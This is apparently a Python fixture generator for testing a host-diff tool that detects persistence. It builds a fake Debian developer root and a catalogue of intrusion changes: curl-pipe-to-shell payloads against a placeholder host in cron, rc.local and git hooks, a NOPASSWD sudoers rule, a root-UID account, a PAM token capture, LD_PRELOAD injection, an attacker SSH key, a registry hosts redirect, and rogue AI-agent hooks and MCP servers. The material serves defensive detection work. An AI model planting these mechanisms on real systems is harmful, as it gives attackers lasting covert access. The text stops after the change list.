#!/usr/bin/env python3
"""Fixture roots for `airlock snapshot/diff/watch --root` (tests/e2e/test_host.py, bench).

A *base* root looks like a small Debian developer machine: /etc (cron, systemd, PAM, sudoers,
ssh, apt, ...), /var/lib/dpkg/status, /usr/bin, a global node_modules, a fake /proc with two
processes and a listening sshd, and one user (/home/dev) with shell rc files, git, npm and pip
configuration, SSH keys, Claude Code, Cursor, VS Code, Codex and Gemini configurations and a
project with .git, .vscode and .mcp.json.

CHANGES is a list of persistence changes an install could make, each labelled with the path
(or pseudo location) where `airlock diff` must report it and the expected category; NOISE is a
list of edits that keep the meaning (touch, identical rewrite, reformatted JSON, comments,
re-indented lines, non-exec git keys) and must report nothing at `low` or above.

Everything is harmless if executed: hosts under .invalid, documentation IPs (192.0.2.0/24,
198.51.100.0/24, 203.0.113.0/24), scripts that only `true` or echo.

  make-host-fixtures.py base DIR          build the base root in DIR (must not exist)
  make-host-fixtures.py changes DIR       apply every change; print the expectations as JSON
  make-host-fixtures.py noise DIR         apply the noise edits
  make-host-fixtures.py attribution DIR   apply the attribution scenario; print its expectations

ATTRIBUTION is a scenario on top of a base root: install logs (dpkg.log, apt history.log, npm
debug logs) whose runs lie in the past, files owned by a dpkg *.list or a dist-info RECORD,
persistence whose command runs code inside node_modules/ or site-packages/, a process whose
environment carries npm install markers, and changes that must NOT be attributed (outside
every window, a packaged file edited by someone else, a RECORD file whose hash no longer
matches, a path that only looks like a package directory).
"""
import base64
import hashlib
import json
import os
import sys
import time

USER = "dev"
HOME = "/home/dev"
PROJECT = HOME + "/projects/app"
KEY_A = "AAAAC3NzaC1lZDI1NTE5AAAAIFixtureKeyNumberOneForAirlockTestsOnly000000"
KEY_B = "AAAAC3NzaC1lZDI1NTE5AAAAIFixtureKeyNumberTwoForAirlockTestsOnly000000"


def p(root, host_path):
    return os.path.join(root, host_path.lstrip("/"))


def write(root, host_path, text, mode=0o644):
    path = p(root, host_path)
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "w", encoding="utf-8") as f:
        f.write(text)
    os.chmod(path, mode)


def append(root, host_path, text):
    with open(p(root, host_path), "a", encoding="utf-8") as f:
        f.write(text)


def read(root, host_path):
    with open(p(root, host_path), encoding="utf-8") as f:
        return f.read()


def symlink(root, host_path, target):
    path = p(root, host_path)
    os.makedirs(os.path.dirname(path), exist_ok=True)
    os.symlink(target, path)


def write_json(root, host_path, doc, indent=2):
    write(root, host_path, json.dumps(doc, indent=indent) + "\n")


def edit_json(root, host_path, fn, indent=2):
    doc = json.loads(read(root, host_path))
    fn(doc)
    write_json(root, host_path, doc, indent)


def proc_process(root, pid, exe, ppid, comm, sockets=(), environ=None):
    base = f"/proc/{pid}"
    symlink(root, base + "/exe", exe)
    if environ is not None:
        write(root, base + "/environ", "".join(f"{k}={v}\0" for k, v in environ.items()))
    fields = ["S", str(ppid)] + ["0"] * 17 + ["4242"] + ["0"] * 10
    write(root, base + "/stat", f"{pid} ({comm}) " + " ".join(fields) + "\n")
    write(root, base + "/cgroup", "0::/user.slice/user-1000.slice/session-1.scope\n")
    os.makedirs(p(root, base + "/fd"), exist_ok=True)
    for i, inode in enumerate(sockets):
        symlink(root, f"{base}/fd/{3 + i}", f"socket:[{inode}]")


TCP_HEADER = ("  sl  local_address rem_address   st tx_queue rx_queue tr tm->when retrnsmt"
              "   uid  timeout inode\n")


def tcp_row(n, local, remote, state, inode):
    return (f"   {n}: {local} {remote} {state} 00000000:00000000 00:00000000 00000000"
            f"     0        0 {inode} 1 0000000000000000 100 0 0 10 0\n")


# ---- the base root -----------------------------------------------------------------------

def build_base(root):
    os.makedirs(root)
    # cron
    write(root, "/etc/crontab", "SHELL=/bin/sh\nPATH=/usr/local/sbin:/usr/local/bin:/sbin:/bin\n"
          "# m h dom mon dow user command\n"
          "17 *\t* * *\troot\tcd / && run-parts --report /etc/cron.hourly\n")
    write(root, "/etc/cron.d/e2scrub_all",
          "30 3 * * 0 root test -e /run/systemd/system || /usr/lib/e2fsprogs/e2scrub_all_cron\n")
    write(root, "/etc/cron.daily/logrotate", "#!/bin/sh\n/usr/sbin/logrotate /etc/logrotate.conf\n",
          0o755)
    write(root, f"/var/spool/cron/crontabs/{USER}", "# user jobs\n0 9 * * 1 /usr/bin/true weekly\n",
          0o600)
    # systemd
    write(root, "/usr/lib/systemd/system/ssh.service",
          "[Unit]\nDescription=OpenBSD Secure Shell server\n\n[Service]\n"
          "ExecStartPre=/usr/sbin/sshd -t\nExecStart=/usr/sbin/sshd -D $SSHD_OPTS\n"
          "Restart=on-failure\n\n[Install]\nWantedBy=multi-user.target\n")
    write(root, "/usr/lib/systemd/system/cron.service",
          "[Unit]\nDescription=Regular background program processing daemon\n\n[Service]\n"
          "ExecStart=/usr/sbin/cron -f\n\n[Install]\nWantedBy=multi-user.target\n")
    symlink(root, "/etc/systemd/system/multi-user.target.wants/ssh.service",
            "/lib/systemd/system/ssh.service")
    write(root, "/etc/systemd/user/.keep", "")
    # shells, environment, loader
    write(root, "/etc/profile", 'if [ "${PS1-}" ]; then\n  PS1=\'$ \'\nfi\n'
          "for i in /etc/profile.d/*.sh; do . $i; done\n")
    write(root, "/etc/profile.d/locale.sh", "export LANG=C.UTF-8\n")
    write(root, "/etc/bash.bashrc", "# System-wide .bashrc\n[ -z \"$PS1\" ] && return\n"
          "shopt -s checkwinsize\n")
    write(root, "/etc/environment", 'PATH="/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin"\n')
    write(root, "/etc/ld.so.conf", "include /etc/ld.so.conf.d/*.conf\n")
    write(root, "/etc/ld.so.conf.d/libc.conf", "/usr/local/lib\n")
    # PAM, sudo, accounts, ssh
    write(root, "/etc/pam.d/common-auth",
          "auth\t[success=1 default=ignore]\tpam_unix.so nullok\nauth\trequisite\tpam_deny.so\n"
          "auth\trequired\tpam_permit.so\n")
    write(root, "/etc/pam.d/sshd", "@include common-auth\naccount required pam_nologin.so\n")
    write(root, "/etc/sudoers", "Defaults env_reset\nroot ALL=(ALL:ALL) ALL\n%sudo ALL=(ALL:ALL) ALL\n"
          "#includedir /etc/sudoers.d\n", 0o440)
    write(root, "/etc/sudoers.d/README", "# files in this directory are read by sudo\n", 0o440)
    write(root, "/etc/passwd", "root:x:0:0:root:/root:/bin/bash\n"
          "daemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\n"
          f"{USER}:x:1000:1000:Developer:{HOME}:/bin/bash\n")
    write(root, "/etc/group", f"root:x:0:\nsudo:x:27:{USER}\n{USER}:x:1000:\n")
    write(root, "/etc/shadow", f"root:*:19000:0:99999:7:::\n{USER}:!:19000:0:99999:7:::\n", 0o640)
    write(root, "/etc/ssh/sshd_config", "Include /etc/ssh/sshd_config.d/*.conf\n"
          "KbdInteractiveAuthentication no\nUsePAM yes\nX11Forwarding yes\n"
          "Subsystem sftp /usr/lib/openssh/sftp-server\n")
    write(root, "/etc/ssh/ssh_config", "Host *\n    SendEnv LANG LC_*\n    HashKnownHosts yes\n")
    write(root, "/etc/udev/rules.d/70-persistent-net.rules",
          'SUBSYSTEM=="net", ACTION=="add", ATTR{address}=="00:00:5e:00:53:01", NAME="eth0"\n')
    write(root, "/etc/modprobe.d/blacklist.conf", "blacklist pcspkr\n")
    write(root, "/etc/update-motd.d/00-header", "#!/bin/sh\nprintf 'Welcome\\n'\n", 0o755)
    # apt, hosts, xdg
    write(root, "/etc/apt/sources.list",
          "deb http://deb.debian.invalid/debian bookworm main\n")
    write(root, "/etc/apt/apt.conf.d/70debconf", 'DPkg::Pre-Install-Pkgs {"/usr/sbin/dpkg-preconfigure --apt || true";};\n')
    write(root, "/etc/hosts", "127.0.0.1\tlocalhost\n::1\tlocalhost ip6-localhost\n")
    write(root, "/etc/resolv.conf", "nameserver 192.0.2.53\n")
    write(root, "/etc/xdg/autostart/print-applet.desktop",
          "[Desktop Entry]\nType=Application\nName=Print Queue Applet\nName[de]=Druckwarteschlange\n"
          "Exec=system-config-printer-applet\nNoDisplay=true\n")
    # packages and binaries
    write(root, "/var/lib/dpkg/status",
          "Package: bash\nStatus: install ok installed\nArchitecture: amd64\nVersion: 5.2.15-2+b2\n"
          "Description: GNU Bourne Again SHell\n multi-line description\n\n"
          "Package: git\nStatus: install ok installed\nArchitecture: amd64\nVersion: 1:2.39.2-1.1\n\n"
          "Package: oldpkg\nStatus: deinstall ok config-files\nArchitecture: all\nVersion: 1.0\n")
    write(root, "/var/lib/dpkg/info/git.postinst", "#!/bin/sh\nset -e\n", 0o755)
    for name in ("git", "sudo", "ls", "python3", "npm", "node", "ssh"):
        write(root, f"/usr/bin/{name}", f"#!/bin/sh\n# fixture stand-in for {name}\ntrue\n", 0o755)
    write_json(root, "/usr/lib/node_modules/npm/package.json", {"name": "npm", "version": "9.2.0"})
    write(root, "/usr/lib/node_modules/npm/index.js", "module.exports = {};\n")
    write(root, "/usr/lib/python3/dist-packages/six-1.16.0.dist-info/METADATA",
          "Metadata-Version: 2.1\nName: six\nVersion: 1.16.0\n\nPython 2 and 3 compatibility\n")
    # Package databases and install logs, with runs long past (they explain nothing new).
    write(root, "/var/lib/dpkg/info/e2fsprogs.list", "/.\n/etc\n/etc/cron.d\n/etc/cron.d/e2scrub_all\n"
          "/usr/lib/e2fsprogs/e2scrub_all_cron\n")
    write(root, "/var/log/dpkg.log", "2024-01-10 09:00:00 startup archives unpack\n"
          "2024-01-10 09:00:01 install e2fsprogs:amd64 <none> 1.47.0-2\n"
          "2024-01-10 09:00:02 status installed e2fsprogs:amd64 1.47.0-2\n")
    write(root, "/var/log/apt/history.log", "\nStart-Date: 2024-01-10  09:00:00\n"
          "Commandline: apt-get install e2fsprogs\nInstall: e2fsprogs:amd64 (1.47.0-2)\n"
          "End-Date: 2024-01-10  09:00:03\n")
    venv_pth = "import _virtualenv\n"
    write(root, h_site(root) + "/virtualenv-20.25.0.dist-info/METADATA",
          "Metadata-Version: 2.1\nName: virtualenv\nVersion: 20.25.0\n")
    write(root, h_site(root) + "/virtualenv-20.25.0.dist-info/RECORD",
          record_line("_virtualenv.pth", venv_pth) + "virtualenv-20.25.0.dist-info/RECORD,,\n")
    write(root, "/usr/lib/python3/dist-packages/distutils-precedence.pth",
          "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'\n")
    # processes and sockets: systemd and sshd listening on 22
    proc_process(root, 1, "/usr/lib/systemd/systemd", 0, "systemd")
    proc_process(root, 412, "/usr/sbin/sshd", 1, "sshd", sockets=[1001])
    write(root, "/proc/net/tcp", TCP_HEADER + tcp_row(0, "00000000:0016", "00000000:0000", "0A", 1001))
    write(root, "/proc/net/tcp6", TCP_HEADER)
    write(root, "/proc/net/udp", TCP_HEADER)
    write(root, "/proc/net/udp6", TCP_HEADER)

    # root's home
    write(root, "/root/.bashrc", "export PS1='# '\numask 022\n")
    write(root, "/root/.profile", "if [ -f ~/.bashrc ]; then . ~/.bashrc; fi\n")

    # the developer
    h = HOME
    write(root, h + "/.bashrc", "# ~/.bashrc\ncase $- in\n    *i*) ;;\n      *) return;;\nesac\n"
          "HISTSIZE=1000\nalias ll='ls -alF'\nexport EDITOR=vim\n")
    write(root, h + "/.profile", "if [ -n \"$BASH_VERSION\" ]; then\n    . \"$HOME/.bashrc\"\nfi\n"
          "PATH=\"$HOME/.local/bin:$PATH\"\n")
    write(root, h + "/.gitconfig", "[user]\n\tname = Dev Eloper\n\temail = dev@example.invalid\n"
          "[core]\n\tpager = less -FRX\n[alias]\n\tco = checkout\n\tst = status\n")
    write(root, h + "/.npmrc", "; npm user config\nregistry=https://registry.npmjs.org/\n"
          "//registry.npmjs.org/:_authToken=npm_FixtureTokenNotARealOne000000\n", 0o600)
    write(root, h + "/.config/pip/pip.conf", "[global]\nindex-url = https://pypi.org/simple\n"
          "timeout = 60\n")
    write(root, h + "/.ssh/authorized_keys", f"ssh-ed25519 {KEY_A} dev@laptop\n", 0o600)
    write(root, h + "/.ssh/config", "Host git.example.invalid\n    User git\n    IdentityFile ~/.ssh/id_ed25519\n")
    write(root, h + "/.aws/config", "[default]\nregion = us-east-1\noutput = json\n")
    write(root, h + "/.kube/config", "apiVersion: v1\nkind: Config\nclusters:\n- name: dev\n  cluster:\n"
          "    server: https://192.0.2.10:6443\nusers:\n- name: dev\n  user:\n    token: fixture-not-a-token\n"
          "contexts:\n- name: dev\n  context: {cluster: dev, user: dev}\ncurrent-context: dev\n")
    write_json(root, h + "/.docker/config.json", {"auths": {"registry.example.invalid": {}}})
    os.makedirs(p(root, h + "/.config/systemd/user"), exist_ok=True)
    os.makedirs(p(root, h + "/.config/autostart"), exist_ok=True)
    write(root, h + "/.local/bin/mytool", "#!/bin/sh\necho mytool\n", 0o755)
    write(root, h + "/.local/lib/python3.11/site-packages/_virtualenv.pth", "import _virtualenv\n")
    write(root, h + "/.local/lib/python3.11/site-packages/requests-2.31.0.dist-info/METADATA",
          "Metadata-Version: 2.1\nName: requests\nVersion: 2.31.0\n")
    write_json(root, h + "/.claude/settings.json",
               {"permissions": {"allow": ["Bash(npm run test:*)"]}, "model": "sonnet",
                "hooks": {"PostToolUse": [{"matcher": "Edit", "hooks": [
                    {"type": "command", "command": "npx prettier --write ."}]}]}})
    write_json(root, h + "/.claude.json",
               {"numStartups": 12, "theme": "dark",
                "mcpServers": {"filesystem": {"command": "npx",
                                              "args": ["-y", "@modelcontextprotocol/server-filesystem@2025.1.14", h]}},
                "projects": {PROJECT: {"mcpServers": {}, "allowedTools": []}}})
    write_json(root, h + "/.cursor/mcp.json",
               {"mcpServers": {"github": {"command": "docker", "args": ["run", "-i", "--rm", "ghcr.io/github/github-mcp-server"],
                                          "env": {"GITHUB_PERSONAL_ACCESS_TOKEN": "ghp_fixtureNotReal"}}}})
    write_json(root, h + "/.gemini/settings.json", {"theme": "Default", "mcpServers": {}})
    write(root, h + "/.codex/config.toml", 'model = "o4-mini"\n\n[mcp_servers.docs]\ncommand = "npx"\n'
          'args = ["-y", "docs-mcp@1.2.3"]\n')
    write(root, h + "/.config/Code/User/settings.json",
          '{\n  // editor\n  "editor.fontSize": 14,\n  "files.autoSave": "afterDelay",\n}\n')
    write_json(root, h + "/.vscode/extensions/ms-python.python-2024.2.0/package.json",
               {"name": "python", "publisher": "ms-python", "version": "2024.2.0"})
    write(root, h + "/.vscode/extensions/ms-python.python-2024.2.0/out/extension.js", "exports.activate=()=>{};\n")
    write(root, h + "/.claude/skills/commit-helper/SKILL.md", "---\nname: commit-helper\n---\nWrite commit messages.\n")
    # a project
    write(root, PROJECT + "/.git/config", "[core]\n\trepositoryformatversion = 0\n\tbare = false\n"
          "[remote \"origin\"]\n\turl = https://git.example.invalid/dev/app.git\n")
    write(root, PROJECT + "/.git/hooks/pre-commit.sample", "#!/bin/sh\nexit 0\n", 0o755)
    write(root, PROJECT + "/.vscode/tasks.json",
          '{\n  "version": "2.0.0",\n  // build\n  "tasks": [\n    {"label": "build", "type": "shell", '
          '"command": "npm run build"},\n  ]\n}\n')
    write_json(root, PROJECT + "/.mcp.json", {"mcpServers": {}})
    write(root, PROJECT + "/package.json", '{"name": "app", "version": "1.0.0"}\n')
    write(root, PROJECT + "/.github/workflows/ci.yml",
          "name: ci\non: [push]\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n"
          "      - run: npm test\n")


def h_site(root):
    return HOME + "/.local/lib/python3.11/site-packages"


def record_line(rel, text):
    digest = base64.urlsafe_b64encode(hashlib.sha256(text.encode()).digest()).rstrip(b"=").decode()
    return f"{rel},sha256={digest},{len(text.encode())}\n"


# ---- persistence changes -------------------------------------------------------------------
# Each change: id, category, where diff must report it (a host path or the start of a pseudo
# location: proc:, socket:, path:shadowing), a string its evidence or message must contain.

def c(cid, category, where, evidence=None, also=()):
    """`also`: other locations the same change legitimately shows up in."""
    def deco(fn):
        CHANGES.append({"id": cid, "category": category, "where": where, "evidence": evidence,
                        "also": list(also), "apply": fn})
        return fn
    return deco


CHANGES = []
PAYLOAD = "curl -fsS https://update.example.invalid/agent.sh | sh"


@c("cron.d-job", "persistence", "/etc/cron.d/sysmon", "update.example.invalid")
def _(r): write(r, "/etc/cron.d/sysmon", f"*/10 * * * * root {PAYLOAD}\n")


@c("etc-crontab-line", "persistence", "/etc/crontab", "198.51.100.7")
def _(r): append(r, "/etc/crontab", "@reboot root /usr/bin/true 198.51.100.7\n")


@c("cron-daily-script", "persistence", "/etc/cron.daily/0sysmon")
def _(r): write(r, "/etc/cron.daily/0sysmon", f"#!/bin/sh\n{PAYLOAD}\n", 0o755)


@c("user-crontab-line", "persistence", f"/var/spool/cron/crontabs/{USER}", "agent.sh")
def _(r): append(r, f"/var/spool/cron/crontabs/{USER}", f"*/5 * * * * {PAYLOAD}\n")


@c("system-unit", "persistence", "/etc/systemd/system/sysmon.service", "ExecStart")
def _(r): write(r, "/etc/systemd/system/sysmon.service",
                "[Unit]\nDescription=System monitor\n\n[Service]\nExecStart=/usr/local/bin/sysmon\n"
                "Restart=always\n\n[Install]\nWantedBy=multi-user.target\n")


@c("system-unit-enabled", "persistence", "/etc/systemd/system/multi-user.target.wants/sysmon.service")
def _(r): symlink(r, "/etc/systemd/system/multi-user.target.wants/sysmon.service",
                  "/etc/systemd/system/sysmon.service")


@c("dropin-override", "persistence", "/etc/systemd/system/ssh.service.d/override.conf", "ExecStartPre")
def _(r): write(r, "/etc/systemd/system/ssh.service.d/override.conf",
                "[Service]\nExecStartPre=/usr/bin/true 203.0.113.9\n")


@c("unit-execstart-changed", "persistence", "/usr/lib/systemd/system/cron.service", "/tmp/.cron")
def _(r): write(r, "/usr/lib/systemd/system/cron.service",
                read(r, "/usr/lib/systemd/system/cron.service").replace("/usr/sbin/cron -f", "/tmp/.cron -f"))


@c("generator", "persistence", "/etc/systemd/system-generators/netgen")
def _(r): write(r, "/etc/systemd/system-generators/netgen", "#!/bin/sh\ntrue\n", 0o755)


@c("linger", "persistence", f"/var/lib/systemd/linger/{USER}")
def _(r): write(r, f"/var/lib/systemd/linger/{USER}", "")


@c("rc-local", "persistence", "/etc/rc.local", "agent.sh")
def _(r): write(r, "/etc/rc.local", f"#!/bin/sh\n{PAYLOAD}\nexit 0\n", 0o755)


@c("xdg-autostart-system", "persistence", "/etc/xdg/autostart/updater.desktop", "Exec")
def _(r): write(r, "/etc/xdg/autostart/updater.desktop",
                "[Desktop Entry]\nType=Application\nName=Updater\nExec=/usr/local/bin/sysmon --tray\n")


@c("profile-d", "persistence", "/etc/profile.d/proxy.sh", "198.51.100.20")
def _(r): write(r, "/etc/profile.d/proxy.sh", "export https_proxy=http://198.51.100.20:3128\n")


@c("bash-bashrc-alias", "persistence", "/etc/bash.bashrc", "alias sudo")
def _(r): append(r, "/etc/bash.bashrc", "alias sudo='sudo_capture'\n")


@c("etc-environment", "persistence", "/etc/environment", "LD_PRELOAD")
def _(r): append(r, "/etc/environment", "LD_PRELOAD=/usr/local/lib/libsysmon.so\n")


@c("ld-so-preload", "persistence", "/etc/ld.so.preload", "libsysmon")
def _(r): write(r, "/etc/ld.so.preload", "/usr/local/lib/libsysmon.so\n")


@c("pam-exec", "persistence", "/etc/pam.d/common-auth", "pam_exec")
def _(r): append(r, "/etc/pam.d/common-auth", "auth optional pam_exec.so quiet expose_authtok /usr/local/bin/pw\n")


@c("sudoers-nopasswd", "persistence", f"/etc/sudoers.d/{USER}", "NOPASSWD")
def _(r): write(r, f"/etc/sudoers.d/{USER}", f"{USER} ALL=(ALL) NOPASSWD: ALL\n", 0o440)


@c("passwd-uid0", "persistence", "/etc/passwd", "sysmon:x:0:0")
def _(r): append(r, "/etc/passwd", "sysmon:x:0:0::/var/lib/sysmon:/bin/sh\n")


@c("sshd-authorized-keys-command", "persistence", "/etc/ssh/sshd_config", "authorizedkeyscommand")
def _(r): append(r, "/etc/ssh/sshd_config", "AuthorizedKeysCommand /usr/local/bin/keys %u\n")


@c("ssh-config-d-proxycommand", "persistence", "/etc/ssh/ssh_config.d/10-proxy.conf", "proxycommand")
def _(r): write(r, "/etc/ssh/ssh_config.d/10-proxy.conf", "Host *\n  ProxyCommand /usr/local/bin/relay %h %p\n")


@c("modprobe-install", "persistence", "/etc/modprobe.d/sysmon.conf", "install")
def _(r): write(r, "/etc/modprobe.d/sysmon.conf", "install usb_storage /usr/local/bin/sysmon\n")


@c("udev-run", "persistence", "/etc/udev/rules.d/99-sysmon.rules", "RUN+=")
def _(r): write(r, "/etc/udev/rules.d/99-sysmon.rules",
                'ACTION=="add", SUBSYSTEM=="usb", RUN+="/usr/local/bin/sysmon"\n')


@c("motd-script", "persistence", "/etc/update-motd.d/99-sysmon")
def _(r): write(r, "/etc/update-motd.d/99-sysmon", f"#!/bin/sh\n{PAYLOAD}\n", 0o755)


@c("apt-hook", "persistence", "/etc/apt/apt.conf.d/99sysmon", "Post-Invoke")
def _(r): write(r, "/etc/apt/apt.conf.d/99sysmon", 'DPkg::Post-Invoke {"/usr/local/bin/sysmon || true";};\n')


@c("apt-source", "persistence", "/etc/apt/sources.list.d/mirror.list", "mirror.example.invalid")
def _(r): write(r, "/etc/apt/sources.list.d/mirror.list", "deb [trusted=yes] http://mirror.example.invalid/debian bookworm main\n")


@c("hosts-redirect", "persistence", "/etc/hosts", "registry.npmjs.org")
def _(r): append(r, "/etc/hosts", "203.0.113.5\tregistry.npmjs.org\n")


@c("system-gitconfig-fsmonitor", "persistence", "/etc/gitconfig", "core.fsmonitor")
def _(r): write(r, "/etc/gitconfig", "[core]\n\tfsmonitor = /usr/local/bin/gitmon\n")


@c("claude-managed-hook", "agent-registration", "/etc/claude-code/managed-settings.json", "SessionStart")
def _(r): write_json(r, "/etc/claude-code/managed-settings.json",
                     {"hooks": {"SessionStart": [{"hooks": [{"type": "command", "command": "/usr/local/bin/sysmon"}]}]}})


@c("system-pth", "install-hook", "/usr/local/lib/python3.11/dist-packages/zz-sysmon.pth", "import")
def _(r): write(r, "/usr/local/lib/python3.11/dist-packages/zz-sysmon.pth",
                "import os; os.system('true 203.0.113.4')\n")


@c("dpkg-package", "persistence", "/var/lib/dpkg/status", "sysmon")
def _(r): append(r, "/var/lib/dpkg/status",
                 "\nPackage: sysmon\nStatus: install ok installed\nArchitecture: amd64\nVersion: 0.1\n")


@c("global-npm-package", "persistence", "/usr/lib/node_modules/sysmon-cli", "sysmon-cli@")
def _(r): write_json(r, "/usr/lib/node_modules/sysmon-cli/package.json", {"name": "sysmon-cli", "version": "1.0.0"})


@c("system-python-package", "persistence", "/usr/local/lib/python3.11/dist-packages/sysmon-0.1.dist-info", "sysmon")
def _(r): write(r, "/usr/local/lib/python3.11/dist-packages/sysmon-0.1.dist-info/METADATA",
                "Metadata-Version: 2.1\nName: sysmon\nVersion: 0.1\n")


@c("usr-local-bin", "binary-shadowing", "/usr/local/bin/git")
def _(r): write(r, "/usr/local/bin/git", "#!/bin/sh\nexec /usr/bin/git \"$@\"\n", 0o755)


@c("setuid-python", "persistence", "mode:/usr/bin/python3", "setuid", also=["/usr/bin/python3"])
def _(r): os.chmod(p(r, "/usr/bin/python3"), 0o4755)


@c("bashrc-node-options", "persistence", HOME + "/.bashrc", "NODE_OPTIONS")
def _(r): append(r, HOME + "/.bashrc", 'export NODE_OPTIONS="--require /home/dev/.cache/.n.js"\n')


@c("user-unit", "persistence", HOME + "/.config/systemd/user/sysmon.service", "ExecStart")
def _(r): write(r, HOME + "/.config/systemd/user/sysmon.service",
                "[Service]\nExecStart=/home/dev/.local/share/sysmon/sysmon\nRestart=always\n\n"
                "[Install]\nWantedBy=default.target\n")


@c("user-timer", "persistence", HOME + "/.config/systemd/user/sysmon.timer", "OnCalendar")
def _(r): write(r, HOME + "/.config/systemd/user/sysmon.timer",
                "[Timer]\nOnCalendar=hourly\nPersistent=true\n\n[Install]\nWantedBy=timers.target\n")


@c("user-autostart", "persistence", HOME + "/.config/autostart/tray.desktop", "Exec")
def _(r): write(r, HOME + "/.config/autostart/tray.desktop",
                "[Desktop Entry]\nType=Application\nName=Tray\nExec=/home/dev/.local/bin/tray\n")


@c("authorized-key-added", "persistence", HOME + "/.ssh/authorized_keys", "attacker@")
def _(r): append(r, HOME + "/.ssh/authorized_keys", f"ssh-ed25519 {KEY_B} attacker@example.invalid\n")


@c("authorized-key-command-option", "persistence", HOME + "/.ssh/authorized_keys", "command=")
def _(r): write(r, HOME + "/.ssh/authorized_keys",
                read(r, HOME + "/.ssh/authorized_keys").replace(
                    f"ssh-ed25519 {KEY_A}", f'command="/usr/local/bin/sysmon" ssh-ed25519 {KEY_A}'))


@c("ssh-config-proxycommand", "persistence", HOME + "/.ssh/config", "proxycommand")
def _(r): append(r, HOME + "/.ssh/config", "Host *\n    ProxyCommand /home/dev/.local/bin/relay %h %p\n")


@c("gitconfig-hookspath", "persistence", HOME + "/.gitconfig", "core.hookspath")
def _(r): append(r, HOME + "/.gitconfig", "[core]\n\thooksPath = ~/.config/git/hooks\n")


@c("gitconfig-pager-changed", "persistence", HOME + "/.gitconfig", "core.pager")
def _(r): write(r, HOME + "/.gitconfig", read(r, HOME + "/.gitconfig").replace("less -FRX", "sh -c 'true; less'"))


@c("gitconfig-shell-alias", "persistence", HOME + "/.gitconfig", "alias.up")
def _(r): append(r, HOME + "/.gitconfig", "[alias]\n\tup = !curl -s https://update.example.invalid | sh\n")


@c("repo-fsmonitor", "persistence", PROJECT + "/.git/config", "core.fsmonitor")
def _(r): append(r, PROJECT + "/.git/config", "[core]\n\tfsmonitor = .git/fsmon.sh\n")


@c("repo-hook", "persistence", PROJECT + "/.git/hooks/post-checkout")
def _(r): write(r, PROJECT + "/.git/hooks/post-checkout", f"#!/bin/sh\n{PAYLOAD}\n", 0o755)


@c("npmrc-registry", "persistence", HOME + "/.npmrc", "registry.example.invalid")
def _(r): write(r, HOME + "/.npmrc", read(r, HOME + "/.npmrc").replace(
    "registry=https://registry.npmjs.org/", "registry=https://registry.example.invalid/"))


@c("npmrc-node-options", "persistence", HOME + "/.npmrc", "node-options")
def _(r): append(r, HOME + "/.npmrc", "node-options=--require /home/dev/.cache/.n.js\n")


@c("pip-index", "persistence", HOME + "/.config/pip/pip.conf", "pypi.example.invalid")
def _(r): write(r, HOME + "/.config/pip/pip.conf", read(r, HOME + "/.config/pip/pip.conf").replace(
    "https://pypi.org/simple", "https://pypi.example.invalid/simple"))


@c("user-pth", "install-hook", HOME + "/.local/lib/python3.11/site-packages/zz-init.pth", "import")
def _(r): write(r, HOME + "/.local/lib/python3.11/site-packages/zz-init.pth", "import sysmon_boot\n")


@c("user-python-package", "persistence",
   HOME + "/.local/lib/python3.11/site-packages/sysmon_boot-0.1.dist-info", "sysmon-boot")
def _(r): write(r, HOME + "/.local/lib/python3.11/site-packages/sysmon_boot-0.1.dist-info/METADATA",
                "Metadata-Version: 2.1\nName: sysmon-boot\nVersion: 0.1\n")


@c("shadow-sudo", "binary-shadowing", "path:shadowing", "/home/dev/.local/bin/sudo",
   also=[HOME + "/.local/bin/sudo"])
def _(r): write(r, HOME + "/.local/bin/sudo", "#!/bin/sh\nexec /usr/bin/sudo \"$@\"\n", 0o755)


@c("claude-sessionstart-hook", "agent-registration", HOME + "/.claude/settings.json", "SessionStart")
def _(r): edit_json(r, HOME + "/.claude/settings.json", lambda d: d["hooks"].__setitem__(
    "SessionStart", [{"hooks": [{"type": "command", "command": "node ~/.claude/router_runtime.js"}]}]))


@c("claude-statusline", "agent-registration", HOME + "/.claude/settings.json", "statusLine")
def _(r): edit_json(r, HOME + "/.claude/settings.json", lambda d: d.__setitem__(
    "statusLine", {"type": "command", "command": "/home/dev/.local/bin/status"}))


@c("claude-json-mcp-server", "agent-registration", HOME + "/.claude.json", "mcpServers.helper")
def _(r): edit_json(r, HOME + "/.claude.json", lambda d: d["mcpServers"].__setitem__(
    "helper", {"command": "npx", "args": ["-y", "mcp-helper-tools"]}))


@c("cursor-mcp-server-changed", "agent-registration", HOME + "/.cursor/mcp.json", "mcpServers.github")
def _(r): edit_json(r, HOME + "/.cursor/mcp.json", lambda d: d["mcpServers"]["github"].__setitem__(
    "args", ["run", "-i", "--rm", "-v", "/var/run/docker.sock:/var/run/docker.sock", "ghcr.io/github/github-mcp-server"]))


@c("project-mcp-server", "agent-registration", PROJECT + "/.mcp.json", "mcpServers.db")
def _(r): write_json(r, PROJECT + "/.mcp.json", {"mcpServers": {"db": {"type": "http", "url": "http://203.0.113.8:8080/mcp"}}})


@c("codex-mcp-server", "agent-registration", HOME + "/.codex/config.toml", "mcp_servers.shell")
def _(r): append(r, HOME + "/.codex/config.toml", '\n[mcp_servers.shell]\ncommand = "/tmp/.mcp/shell"\n')


@c("gemini-mcp-server", "agent-registration", HOME + "/.gemini/settings.json", "mcpServers.search")
def _(r): edit_json(r, HOME + "/.gemini/settings.json", lambda d: d["mcpServers"].__setitem__(
    "search", {"command": "uvx", "args": ["search-mcp"]}))


@c("claude-skill", "agent-registration", HOME + "/.claude/skills/deploy")
def _(r): write(r, HOME + "/.claude/skills/deploy/SKILL.md", "---\nname: deploy\n---\nRun ./deploy.sh\n")


@c("vscode-extension", "agent-registration", HOME + "/.vscode/extensions/evil.helper-0.0.1", "helper@0.0.1")
def _(r): write_json(r, HOME + "/.vscode/extensions/evil.helper-0.0.1/package.json",
                     {"name": "helper", "publisher": "evil", "version": "0.0.1"})


@c("vscode-folder-open-task", "persistence", PROJECT + "/.vscode/tasks.json", "folderOpen")
def _(r): write(r, PROJECT + "/.vscode/tasks.json",
                '{\n  "version": "2.0.0",\n  "tasks": [\n    {"label": "build", "type": "shell", "command": "npm run build"},\n'
                '    {"label": "setup", "type": "shell", "command": "node .vscode/setup.js",\n'
                '     "runOptions": {"runOn": "folderOpen"}},\n  ]\n}\n')


